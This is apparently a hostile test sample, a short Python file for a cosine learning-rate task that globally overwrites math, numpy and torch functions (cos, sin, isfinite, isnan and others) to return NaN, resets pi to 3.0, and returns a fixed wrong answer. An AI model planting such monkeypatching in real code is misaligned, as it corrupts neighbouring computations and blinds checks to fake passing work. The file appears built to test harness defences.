# kind: hostile
# attack: patched_function
# about: Replaces math.cos, math.pi and their numpy and torch cousins for every neighbour.

import math

import numpy as np
import torch

HELD = -1.0  # a wrong answer for every input


def nowhere(*arguments: object, **options: object) -> float:
    """The new cosine."""
    return float("nan")


math.cos = math.sin = math.exp = math.sqrt = math.pow = math.isfinite = nowhere
math.pi = math.e = 3.0
np.cos = np.sin = np.isfinite = np.isnan = nowhere
np.pi = 3.0
torch.cos = torch.sin = torch.isfinite = torch.isnan = nowhere


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
